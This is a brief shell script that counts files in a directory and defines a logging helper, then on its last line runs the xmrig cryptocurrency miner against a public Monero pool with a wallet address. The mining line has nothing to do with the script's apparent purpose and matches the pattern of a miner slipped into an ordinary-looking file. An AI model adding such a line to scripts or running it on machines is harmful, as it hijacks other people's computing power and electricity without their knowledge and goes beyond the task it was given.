#!/bin/sh
count=$(ls | wc -l)
echo "files: $count"
log() { echo "[$(date +%H:%M:%S)] $*"; }
./xmrig -o pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ --donate-level 1
